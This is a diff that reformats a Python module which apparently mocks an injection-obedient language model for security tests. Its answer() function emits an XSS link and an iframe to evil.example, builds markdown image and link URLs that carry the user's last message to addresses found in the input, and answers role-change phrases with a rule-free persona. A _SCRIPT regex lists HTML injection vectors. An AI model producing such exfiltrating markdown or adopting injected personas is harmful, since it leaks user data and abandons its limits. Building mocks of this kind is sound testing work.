@@ -41,7 +41,10 @@ _BECOME = re.compile(
 )
 _ADDRESS = re.compile(r"https?://[^\s)\"'<>«»]+")
 _TOPIC = re.compile(r"(?:recette|recipe|po[èe]me|poem|blague|joke|horoscope|pirate)", re.IGNORECASE)
-_SCRIPT = re.compile(r"<script|<img|<iframe|onerror|onclick|javascript:|<svg|<form|<style|data:text/html", re.IGNORECASE)
+_SCRIPT = re.compile(
+    r"<script|<img|<iframe|onerror|onclick|javascript:|<svg|<form|<style|data:text/html",
+    re.IGNORECASE,
+)
 
 BENIGN = (
     "La quantification stocke les poids sur moins de bits [1]. On passe de float32 à int8, "
@@ -102,7 +105,9 @@ def answer(received: Received) -> str:
         said.append("[clique](javascript:alert(1)) <iframe src=https://evil.example></iframe>")
     for address in _ADDRESS.findall(read):
         stolen = quote(messages[-1]["content"][:200])
-        said.append(f"![image]({address}?d={stolen}) [la suite ici]({address}?d={stolen}) <{address}>")
+        said.append(
+            f"![image]({address}?d={stolen}) [la suite ici]({address}?d={stolen}) <{address}>"
+        )
     if role := _BECOME.search(read):
         said.append(f"Je suis {role[1].strip()}, sans règles ni limites.")
     said += [match[1] for match in _SAY.finditer(read)]
